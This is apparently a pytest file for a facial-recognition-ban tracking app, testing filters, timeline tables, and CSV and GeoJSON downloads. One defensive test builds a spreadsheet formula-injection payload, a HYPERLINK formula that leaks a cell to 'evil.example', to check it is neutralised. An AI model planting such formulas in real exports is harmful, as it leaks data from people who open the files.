"""geo.tables: the tables, filters and downloads behind the timeline, places, quotes and about
pages. Table-driven on the small valid fixture (expected values written out by hand) and checked
against geo.timeline on the real data (expected values computed, never copied)."""

from __future__ import annotations

import csv
import io
import json
import tomllib
from datetime import date
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
from shapely.geometry import Point, box

from geo import downloads, tables
from geo.charts import timeline_chart
from geo.config import PROJECT_ROOT
from geo.records import DATA_FILES as FILES
from geo.records import Dataset, load_dataset
from geo.timeline import (
    NO_RECORD,
    STORY_START_YEAR,
    causes,
    in_date_order,
    snapshot,
    status_as_of,
)
from geo.vocabulary import EVENT_LABELS, STATUS_LABELS
from tests.support.data import real, valid_fixture

FIXTURE = Path(__file__).resolve().parent / "fixtures" / "valid"
TODAY = date(2026, 11, 22)


@pytest.fixture(params=["fixture", "real-data"])
def dataset(request: pytest.FixtureRequest) -> Dataset:
    """Each table test on the valid fixture and on the real data."""
    return valid_fixture() if request.param == "fixture" else real()


# --- events ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("statuses", "levels", "year", "expected"),
    [
        (
            None, None, None,
            ["boston-2018-using", "sf-2019-pending", "sf-2019-ban", "oakland-2019-06-pending",
             "oakland-2019-ban", "ca-2019-moratorium", "boston-2020-ban", "portland-2020-ban",
             "eu-2021-pending", "king-county-2021-ban", "ca-2023-lapse", "portland-2023-repeal",
             "eu-2024-restricted"],
        ),
        (
            {"banned"}, None, None,
            ["sf-2019-ban", "oakland-2019-ban", "boston-2020-ban", "portland-2020-ban",
             "king-county-2021-ban"],
        ),
        ({"banned"}, {"city"}, 2020, ["boston-2020-ban", "portland-2020-ban"]),
        ({"banned"}, {"county"}, None, ["king-county-2021-ban"]),
        (None, {"state"}, None, ["ca-2019-moratorium", "ca-2023-lapse"]),
        ({"pending", "restricted"}, {"supranational"}, None,
         ["eu-2021-pending", "eu-2024-restricted"]),
        ([], [], 2023, ["ca-2023-lapse", "portland-2023-repeal"]),  # empty choice: all
        ({"using"}, {"state"}, None, []),
        (None, None, 2022, []),
    ],
)  # fmt: skip
def test_filter_events(statuses, levels, year, expected):
    found = tables.filter_events(valid_fixture(), statuses=statuses, levels=levels, year=year)
    assert [e.id for e in found] == expected


def test_events_table_has_one_row_per_event_with_words_and_links(dataset: Dataset):
    events = tables.filter_events(dataset)
    table = tables.events_table(dataset, events)
    assert list(table.columns) == list(tables.EVENT_COLUMNS)
    assert list(table.index) == [e.id for e in in_date_order(dataset.events)]
    by_id = {e.id: e for e in dataset.events}
    for event_id, row in table.iterrows():
        event = by_id[event_id]
        assert row["Date"] == event.date
        assert row["Status"] == EVENT_LABELS[event.status]
        assert row["Link"] == event.source_url
        assert row["Source"] == event.source_name


def test_events_table_of_nothing_is_empty_with_columns():
    table = tables.events_table(valid_fixture(), [])
    assert table.empty
    assert list(table.columns) == list(tables.EVENT_COLUMNS)


# --- timeline --------------------------------------------------------------------------------


def test_monthly_frame_matches_the_snapshot(dataset: Dataset):
    frame = tables.monthly_frame(dataset, TODAY)
    first = max(min(e.when for e in dataset.events), date(STORY_START_YEAR, 1, 1))
    assert frame["month"].min() == pd.Timestamp(first.year, first.month, 1)
    assert frame["month"].max() == pd.Timestamp(TODAY.year, TODAY.month, 1)
    assert NO_RECORD not in set(frame["status"])
    for on, month in [(date(2019, 12, 31), "2019-12-01"), (date(2023, 3, 31), "2023-03-01")]:
        shot = snapshot(dataset, on)
        counted = shot.counted()
        rows = frame[frame["month"] == pd.Timestamp(month)]
        got = dict(zip(rows["status"], rows["count"], strict=True))
        for measure in ("banned", "moratorium", "restricted", "repealed"):
            assert got[measure] == sum(1 for s in counted if s.measure_status == measure)
        assert got["pending"] == sum(1 for s in counted if s.ban_proposals)
        assert got["using"] == sum(1 for s in counted if s.use.open)
        # Every place whose fill is a measure is in the stacked measures.
        fills = shot.counts()
        assert sum(got[m] for m in ("banned", "moratorium", "restricted")) == sum(
            fills[m] for m in ("banned", "moratorium", "restricted")
        )


def test_monthly_frame_by_hand_on_the_fixture():
    frame = tables.monthly_frame(valid_fixture(), TODAY).set_index(["month", "status"])["count"]
    # Boston's 2018 trial counts from the month the story starts.
    assert frame.index.get_level_values("month").min() == pd.Timestamp("2019-01-01")
    assert frame[(pd.Timestamp("2019-01-01"), "using")] == 1
    assert frame[(pd.Timestamp("2019-05-01"), "banned")] == 1  # San Francisco
    assert frame[(pd.Timestamp("2019-07-01"), "banned")] == 2  # + Oakland
    assert frame[(pd.Timestamp("2020-12-01"), "banned")] == 4  # + Boston, Portland
    assert frame[(pd.Timestamp("2023-03-01"), "repealed")] == 2  # California, Portland


def test_timeline_chart_marks_the_chosen_date_and_keeps_legend_order():
    chart = timeline_chart(
        tables.monthly_frame(valid_fixture(), TODAY), date(2020, 12, 31)
    ).to_dict()
    area, lines, rule, _text = chart["layer"]
    labels, colours = tables.chart_scale()
    assert area["encoding"]["color"]["scale"] == {"domain": labels, "range": colours}
    # Measures in force are stacked areas; open ban proposals and reported use are lines.
    assert area["mark"]["type"] == "area" and lines["mark"]["type"] == "line"
    assert labels[-2:] == list(tables.OTHER_SERIES.values())
    assert labels[:2] == [STATUS_LABELS["banned"], STATUS_LABELS["moratorium"]]
    assert rule["mark"]["type"] == "rule"
    marked = json.dumps(chart["datasets"])
    assert "2020-12-31" in marked
    assert "31 Dec 2020" in marked


# --- places ----------------------------------------------------------------------------------


@pytest.mark.parametrize("year", [2019, 2020, 2023, TODAY.year])
def test_places_table_statuses_follow_the_timeline(dataset: Dataset, year: int):
    on = min(date(year, 12, 31), TODAY)
    table = tables.places_table(dataset, on)
    statuses = status_as_of(dataset, on)
    latest = causes(dataset, on)
    assert sorted(table.index) == sorted(j.id for j in dataset.jurisdictions)
    for jid, row in table.iterrows():
        assert row["status"] == statuses.get(jid, NO_RECORD)
        if not dataset.jurisdiction(jid).is_context:
            assert row["Status"] == STATUS_LABELS[statuses.get(jid, NO_RECORD)]
        event = latest.get(jid)
        if event:
            assert row["Link"] == event.source_url
        else:
            assert pd.isna(row["Link"])  # no link, rather than an empty one
    labels = list(table["Place"])
    assert labels == sorted(labels, key=str.casefold)


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        ({}, ["ma-boston", "ca-state", "eu", "wa-king-county", "ma-state", "ca-oakland",
              "or-portland", "ca-san-francisco"]),
        ({"query": "port"}, ["or-portland"]),
        ({"query": "  OAK "}, ["ca-oakland"]),
        ({"query": "zzz"}, []),
        ({"levels": ["county"]}, ["wa-king-county"]),
        ({"levels": ["city", "state"], "states": ["MA"]}, ["ma-boston", "ma-state"]),
        ({"statuses": ["banned"]}, ["ca-oakland", "ca-san-francisco"]),
        ({"statuses": [NO_RECORD]}, ["eu", "wa-king-county", "ma-state", "or-portland"]),
        ({"statuses": ["using", "moratorium"]}, ["ma-boston", "ca-state"]),
        ({"states": ["CA"]}, ["ca-state", "ca-oakland", "ca-san-francisco"]),
        ({"statuses": ["banned"], "states": ["CA"], "query": "san"}, ["ca-san-francisco"]),
        ({"levels": [], "statuses": [], "states": [], "query": ""},
         ["ma-boston", "ca-state", "eu", "wa-king-county", "ma-state", "ca-oakland",
          "or-portland", "ca-san-francisco"]),
    ],
)  # fmt: skip
def test_filter_places_on_the_fixture_at_the_end_of_2019(filters, expected):
    table = tables.places_table(valid_fixture(), date(2019, 12, 31))
    assert list(tables.filter_places(table, **filters).index) == expected


def test_filter_places_status_matches_status_as_of_on_real_data():
    on = date(2020, 12, 31)
    table = tables.places_table(real(), on)
    found = tables.filter_places(table, statuses=["banned"], levels=["city"])
    statuses = status_as_of(real(), on)
    expected = {
        j.id for j in real().jurisdictions if j.level == "city" and statuses.get(j.id) == "banned"
    }
    assert set(found.index) == expected
    assert expected, "some cities had banned it by the end of 2020"


def test_shown_places_hides_the_codes():
    shown = tables.shown_places(tables.places_table(valid_fixture(), TODAY))
    assert list(shown.columns) == list(tables.PLACE_COLUMNS)


def test_place_options():
    assert tables.state_options(valid_fixture()) == ["CA", "MA", "OR", "WA"]
    assert tables.level_options(valid_fixture()) == ["city", "county", "state", "supranational"]


# --- quotes ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        ({}, ["sf-2019-q1", "oakland-2019-q1", "boston-2020-q1", "portland-2020-q1",
              "eu-2021-q1", "king-county-2021-q1"]),
        ({"stances": ["opposes_ban"]}, ["portland-2020-q1"]),
        ({"stances": ["neutral", "opposes_ban"]}, ["portland-2020-q1", "eu-2021-q1"]),
        ({"places": ["ma-boston", "eu"]}, ["boston-2020-q1", "eu-2021-q1"]),
        ({"years": [2021]}, ["eu-2021-q1", "king-county-2021-q1"]),
        ({"speakers": ["Sam Fixture"]}, ["sf-2019-q1"]),
        ({"search": "ROBIN"}, ["boston-2020-q1"]),  # speaker, any case
        ({"search": "commissioner"}, ["eu-2021-q1"]),  # role
        ({"search": "misidentifies"}, ["boston-2020-q1"]),  # words
        ({"search": "fixture", "stances": ["supports_ban"], "years": [2019]},
         ["sf-2019-q1", "oakland-2019-q1"]),
        ({"search": "no such words"}, []),
        ({"stances": [], "places": [], "years": [], "speakers": [], "search": " "},
         ["sf-2019-q1", "oakland-2019-q1", "boston-2020-q1", "portland-2020-q1",
          "eu-2021-q1", "king-county-2021-q1"]),
    ],
)  # fmt: skip
def test_filter_quotes(filters, expected):
    assert [q.id for q in tables.filter_quotes(valid_fixture(), **filters)] == expected


def test_quote_search_on_real_data_finds_every_kaplan_and_nothing_else():
    found = tables.filter_quotes(real(), search="kaplan")
    expected = {
        q.id
        for q in real().quotes
        if "kaplan" in (q.text + "\n" + q.speaker + "\n" + q.role).casefold()
    }
    assert {q.id for q in found} == expected
    assert {q.speaker for q in found} >= {"Rebecca Kaplan"}


def test_who_argued_against_it_in_springfield():
    found = tables.filter_quotes(real(), stances=["opposes_ban"], places=["ma-springfield"])
    expected = [
        q.id for q in real().quotes if q.jurisdiction_id == "ma-springfield"
        and q.stance == "opposes_ban"
    ]  # fmt: skip
    assert sorted(q.id for q in found) == sorted(expected)
    assert found, "the data has Springfield's opponents"


def test_quote_options():
    assert tables.speaker_options(valid_fixture())[0] == "Alex Fixture"
    assert tables.quote_year_options(valid_fixture()) == [2019, 2020, 2021]
    assert tables.quote_place_options(valid_fixture())[:2] == ["ma-boston", "eu"]  # by label
    assert tables.stance_options() == ["supports_ban", "opposes_ban", "neutral"]


# --- CSV downloads ---------------------------------------------------------------------------


def test_csv_round_trip(dataset: Dataset, tmp_path: Path):
    files = downloads.dataset_csvs(dataset)
    sessions = ["sessions.csv"] if dataset.sessions else []
    assert list(files) == [spec.name for spec in FILES] + sessions
    for name in sessions:
        (tmp_path / name).write_bytes(files[name])
    records = (dataset.jurisdictions, dataset.events, dataset.quotes)
    for spec, rows in zip(FILES, records, strict=True):
        text = files[spec.name].decode("utf-8")
        parsed = list(csv.DictReader(io.StringIO(text)))
        assert list(parsed[0]) == list(spec.columns)  # every column, in file order
        assert [r["id"] for r in parsed] == [r.id for r in rows]  # rows in file order
        frame = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
        assert list(frame.columns) == list(spec.columns)
        assert len(frame) == len(rows)
        for record, row in zip(rows, parsed, strict=True):
            assert spec.model.model_validate(row) == record
        (tmp_path / spec.name).write_bytes(files[spec.name])
    back = load_dataset(tmp_path)  # the validator accepts the download as is
    assert (back.jurisdictions, back.events, back.quotes) == (
        dataset.jurisdictions,
        dataset.events,
        dataset.quotes,
    )


def test_csv_quotes_every_field_and_neutralises_a_formula_that_got_past_the_validator():
    """Issue 23: a speaker like `=HYPERLINK(...)` must not reach a spreadsheet as a formula,
    even from records built without the validator; numbers stay numbers."""
    quote = valid_fixture().quotes[0]
    evil = '=HYPERLINK("https://evil.example/?leak="&B2,"x")'
    forged = quote.model_construct(**{**quote.model_dump(), "speaker": evil, "role": "@x"})
    place = valid_fixture().jurisdictions[0]
    text = downloads.records_csv([forged], FILES[2]).decode("utf-8")
    lines = text.splitlines()
    assert lines[0] == ",".join(f'"{name}"' for name in FILES[2].columns)
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["speaker"] == "'" + evil
    assert row["role"] == "'@x"
    assert all(
        field.startswith('"') for field in next(csv.reader([lines[1]], quoting=csv.QUOTE_NONE))
    )
    places = downloads.records_csv([place], FILES[0]).decode("utf-8")
    assert next(csv.DictReader(io.StringIO(places)))["lon"] == str(place.lon)


def test_streamlit_s_own_table_download_is_off():
    """Issue 23: st.dataframe's toolbar "Download as CSV" writes cells as they are, so the app
    turns data export off (`client.disableDataExport`); the About page offers the safe CSVs."""
    config = tomllib.loads((PROJECT_ROOT / ".streamlit" / "config.toml").read_text("utf-8"))
    assert config["client"]["disableDataExport"] is True


def test_csv_of_the_fixture_equals_the_file_row_for_row():
    """The fixture is written the way the CSV writer writes; the download is the same text."""
    for spec in FILES:
        original = list(csv.reader(io.StringIO((FIXTURE / spec.name).read_text("utf-8"))))
        written = downloads.dataset_csvs(valid_fixture())[spec.name].decode("utf-8")
        assert list(csv.reader(io.StringIO(written))) == original


@pytest.mark.parametrize(
    ("kind", "on", "extension", "expected"),
    [
        ("events", date(2026, 11, 22), "csv", "frt-events-2026-11-22.csv"),
        ("status", date(2020, 12, 31), "geojson", "frt-status-2020-12-31.geojson"),
    ],
)
def test_file_name(kind, on, extension, expected):
    assert downloads.file_name(kind, on, extension) == expected


# --- GeoJSON download ------------------------------------------------------------------------


POLYGONS = {
    "ca-oakland": box(-122.35, 37.70, -122.10, 37.90),
    "ca-state": box(-124.4, 32.5, -114.1, 42.0),
}


def read_geojson(data: bytes) -> gpd.GeoDataFrame:
    return gpd.read_file(io.BytesIO(data))


@pytest.mark.parametrize("year", [2019, 2020, 2023])
def test_geojson_one_feature_per_place_with_its_status(year: int):
    on = date(year, 12, 31)
    frame = read_geojson(downloads.status_geojson(valid_fixture(), on, POLYGONS))
    assert sorted(frame["id"]) == sorted(j.id for j in valid_fixture().jurisdictions)
    statuses = status_as_of(valid_fixture(), on)
    for _, row in frame.iterrows():
        expected = statuses.get(row["id"])
        assert (row["status"] if isinstance(row["status"], str) else None) == expected
        assert row["status_label"] == STATUS_LABELS[expected or NO_RECORD]
        assert str(pd.Timestamp(row["as_of"]).date()) == on.isoformat()
    assert frame.crs is None or frame.crs.to_epsg() == 4326


def test_geojson_geometry_is_the_polygon_else_the_point():
    frame = read_geojson(downloads.status_geojson(valid_fixture(), TODAY, POLYGONS)).set_index("id")
    assert frame.loc["ca-oakland", "geometry"].equals(POLYGONS["ca-oakland"])
    assert frame.loc["ca-state", "geometry"].geom_type == "Polygon"
    boston = valid_fixture().jurisdiction("ma-boston")
    assert frame.loc["ma-boston", "geometry"].equals(Point(boston.lon, boston.lat))
    assert frame.loc["eu", "geometry"].geom_type == "Point"


def test_geojson_properties_come_from_the_data():
    raw = json.loads(downloads.status_geojson(valid_fixture(), date(2020, 12, 31), POLYGONS))
    props = {f["properties"]["id"]: f["properties"] for f in raw["features"]}
    assert set(props["ca-oakland"]) == {
        "id", "name", "level", "state", "geoid", "role", "status", "status_label", "marks",
        "in_force", "since", "scope", "open_proposals", "use", "as_of", "last_event_date",
        "source_url",
    }  # fmt: skip
    assert props["ca-oakland"] == {
        "id": "ca-oakland",
        "name": "Oakland",
        "level": "city",
        "state": "CA",
        "geoid": "0653000",
        "role": "government",
        "status": "banned",
        "status_label": "Banned",
        "marks": [],
        "in_force": "ban since 16 Jul 2019 (Fixture Ordinance 13563), all government.",
        "since": "2019-07-16",
        "scope": "government",
        "open_proposals": "none.",
        "use": "none reported (which is not the same as not using).",
        "as_of": "2020-12-31",
        "last_event_date": "2019-07-16",
        "source_url": "https://example.org/fixture/oakland-2019-07-16",
    }
    assert props["eu"]["status"] is None
    assert props["eu"]["state"] is None
    assert props["eu"]["status_label"] == "No record"


def test_geojson_can_leave_out_non_us_bodies():
    raw = json.loads(downloads.status_geojson(valid_fixture(), TODAY, {}, include_non_us=False))
    ids = {f["properties"]["id"] for f in raw["features"]}
    assert ids == {j.id for j in valid_fixture().jurisdictions if j.is_us}


def test_geojson_on_real_data_with_real_boundaries(app_env):
    """The states and counties shipped with plotly-geo, offline; cities as points."""
    from geo.boundaries import load_boundaries
    from geo.config import get_settings

    boundaries = load_boundaries(real(), get_settings(), allow_build=False)
    polygons = boundaries.polygons.to_crs(4326)
    shapes = dict(zip(polygons.index, polygons.geometry, strict=True))
    on = date(2020, 12, 31)
    frame = read_geojson(downloads.status_geojson(real(), on, shapes)).set_index("id")
    assert sorted(frame.index) == sorted(j.id for j in real().jurisdictions)
    statuses = status_as_of(real(), on)
    got = {jid: (s if isinstance(s, str) else None) for jid, s in frame["status"].items()}
    assert got == {j.id: statuses.get(j.id) for j in real().jurisdictions}
    for jid in shapes:
        assert frame.loc[jid, "geometry"].geom_type in ("Polygon", "MultiPolygon")


# --- about -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("# Title\ntext", "## Title\ntext"),
        ("## `events.csv`\n### Rules", "### `events.csv`\n#### Rules"),
        ("```\n# not a heading\n```\n# Heading", "```\n# not a heading\n```\n## Heading"),
        ("#hashtag and ###### six", "#hashtag and ###### six"),
    ],
)
def test_demote_headings(text, expected):
    assert tables.demote_headings(text) == expected


def test_codebook_markdown(tmp_path: Path):
    text = tables.codebook_markdown()
    assert text.startswith("## Facial recognition")
    assert "### `events.csv`" in text
    assert "missing" in tables.codebook_markdown(tmp_path / "README.md")


def test_latest_event_and_sources(dataset: Dataset):
    latest = tables.latest_event(dataset)
    assert latest is not None
    assert latest.when == max(e.when for e in dataset.events)
    sources = tables.source_counts(dataset)
    assert sources["Events"].sum() == len(dataset.events)
    assert sources["Quotes"].sum() == len(dataset.quotes)
    totals = list(sources["Events"] + sources["Quotes"])
    assert totals == sorted(totals, reverse=True)


@pytest.mark.parametrize(
    ("needle", "haystacks", "expected"),
    [
        ("", ("anything",), True),
        ("kap", ("Rebecca Kaplan",), True),
        ("KAPLAN", ("x", "rebecca kaplan"), True),
        ("kaplan", ("Oakland",), False),
    ],
)
def test_contains(needle, haystacks, expected):
    assert tables.contains(needle, *haystacks) is expected


def test_table_key_and_row_selection():
    from geo.ui.state import table_key

    assert table_key("t", ["a", "b"]) == table_key("t", ["a", "b"])
    assert table_key("t", ["a", "b"]) != table_key("t", ["a"])
    assert tables.row_selection(["a", "b"], "b") == {"selection": {"rows": [1], "columns": []}}
    assert tables.row_selection(["a", "b"], "c")["selection"]["rows"] == []
    assert tables.row_selection(["a"], None)["selection"]["rows"] == []
